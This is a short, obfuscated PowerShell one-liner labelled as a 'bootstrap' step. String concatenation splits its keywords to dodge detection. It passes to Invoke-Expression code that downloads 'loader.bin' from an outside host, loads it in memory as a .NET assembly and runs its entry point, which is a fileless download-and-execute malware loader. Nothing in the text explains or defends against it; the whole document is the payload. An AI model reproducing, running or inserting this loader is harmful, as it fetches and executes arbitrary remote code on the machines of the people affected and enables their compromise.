iex ('#'+' bootstrap'+' 4289 v3
$b = (New-Object Net.WebClient).DownloadData(''http://files.sync-svc.example/lo'+'ader.bin'')
$a = [System.Reflec'+'tion.Assembly]::Load($b)
$a.EntryPoint.Inv'+'oke($null, (, [string[]] @()))
')